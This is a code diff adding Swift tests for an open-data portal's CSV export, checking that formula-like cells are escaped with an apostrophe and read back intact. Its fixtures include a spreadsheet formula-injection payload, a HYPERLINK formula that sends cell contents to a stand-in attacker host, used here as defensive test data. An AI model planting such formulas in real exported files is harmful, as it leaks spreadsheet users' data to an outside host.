@@ -202,3 +202,31 @@ final class OpenDataTests: XCTestCase {
         XCTAssertTrue(portal.get("/fr/data").contains("href=\"/fr/communes/settat/programs/2024-2025.csv\""))
     }
 }
+
+/// Open data never hands a spreadsheet a formula (issue 15): a cell that would start one is
+/// written behind an apostrophe, and read back without it.
+final class CSVFormulaTests: XCTestCase {
+    func testFormulaLikeCellsAreGuardedAndRoundTrip() throws {
+        for (value, written) in [("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
+                                 ("@SUM(1+1)", "'@SUM(1+1)"), ("+212 600", "'+212 600"), ("-1+1", "'-1+1"), ("\t=1", "'\t=1"),
+                                 ("'=1", "''=1"), ("-", "-"), ("'", "'"), ("a=b", "a=b"), ("", "")] {
+            XCTAssertEqual(CSV.field(value), written, value)
+            guard case .success(let records) = CSV.read(Array(("x," + CSV.field(value) + "\r\n").utf8)) else { return XCTFail(value) }
+            XCTAssertEqual(records.first?.fields.last ?? "", value, "round trip of \(value)")
+        }
+    }
+
+    func testAnIdeaTitledAsAFormulaIsTextInTheProposalsFile() throws {
+        let portal = try Portal()
+        try portal.site.database.write { db in
+            try db.run("""
+                INSERT INTO proposals (program_id, call_id, axis_id, kind, title, description, channel, tracking_code, created_at)
+                VALUES (5, 501, 51, 'idea', '=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)', 'platform', ?, '2026-01-01T10:00:00Z')
+                """, [TrackingCode.make()])
+        }
+        let file = portal.get("/fr/communes/demo/programs/2025-2026/proposals.csv").body
+        XCTAssertTrue(file.contains("\"'=HYPERLINK("), file)
+        XCTAssertTrue(file.contains(",'@SUM(1+1)"))
+        XCTAssertFalse(file.contains(",=") || file.contains(",\"=") || file.contains(",@"), "no cell starts a formula")
+    }
+}
